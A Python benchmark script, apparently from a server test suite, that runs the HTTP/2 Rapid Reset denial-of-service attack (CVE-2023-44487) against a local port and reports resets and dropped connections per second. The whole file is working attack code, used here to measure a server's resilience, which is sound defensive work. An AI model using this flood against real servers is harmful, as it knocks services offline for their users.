"""Rapid reset (CVE-2023-44487): whole requests, each reset right after, as many as one process can send.

A connection that the server gives up is followed by a new one at once. With `--spin` it only takes as much of its core,
and attacks nobody: what a load that shares the core with an attacker is fairly compared with.

    python -m benchmarks.attack PORT --seconds 3
"""

from __future__ import annotations

import argparse
import json
import socket
import time
from contextlib import suppress

from benchmarks.answers import frame as enveloped
from benchmarks.frames import CANCEL, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, RST_STREAM, frame, head, opening
from benchmarks.peers import schema

CONNECTIONS = 4
BATCH = 50
"""Requests in one write; their resets are in the next."""
WRITES = 2 * 200
"""On one connection, if the server lets it."""


def writes(path: str, message: bytes) -> list[bytes]:
    """What one connection sends."""
    block, body = head(path), enveloped(message)
    out = []
    for first in range(1, WRITES * BATCH, 2 * BATCH):
        streams = range(first, first + 2 * BATCH, 2)
        requests = (
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body) for stream in streams
        )
        out += [b"".join(requests), b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)]
    return out


class Attacker:
    """A connection that is opened again as often as it is cut."""

    def __init__(self, port: int, script: list[bytes]) -> None:
        self.cut = self.resets = 0
        self._port = port
        self._script = script
        self._connect()

    def _connect(self) -> None:
        self._at = 0
        self._socket = socket.create_connection(("127.0.0.1", self._port), 10)
        self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self._socket.sendall(opening())

    def turn(self) -> None:
        """Send the next requests and reset them. A server that reads no more is left for a new connection."""
        self._socket.settimeout(0.1)
        try:
            for _ in range(2):
                self._socket.sendall(self._script[self._at])
                self._at += 1
            self.resets += BATCH
            self._socket.setblocking(False)
            with suppress(BlockingIOError):
                if _is_over(self._socket.recv(262_144)):
                    raise ConnectionResetError
            if self._at < len(self._script):
                return
        except OSError:
            self.cut += 1
        self._socket.close()
        self._connect()


def _is_over(came: bytes) -> bool:
    """Closed, or about to be: whole frames are what a server's small answers come in."""
    at = 0
    while len(came) - at >= 9:
        if came[at + 3] == GOAWAY:
            return True
        at += 9 + int.from_bytes(came[at : at + 3])
    return not came


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("port", type=int)
    parser.add_argument("--path", default="/user.UserService/GetUser")
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--spin", action="store_true")
    options = parser.parse_args()
    script = writes(options.path, schema.GetUserRequest(id=42).SerializeToString())
    attackers = [] if options.spin else [Attacker(options.port, script) for _ in range(CONNECTIONS)]
    started = time.monotonic()
    while (spent := time.monotonic() - started) < options.seconds:
        for attacker in attackers:
            attacker.turn()
    resets, cut = sum(attacker.resets for attacker in attackers), sum(attacker.cut for attacker in attackers)
    print(json.dumps({"resets_per_s": resets / spent, "cut_per_s": cut / spent}))


if __name__ == "__main__":
    main()
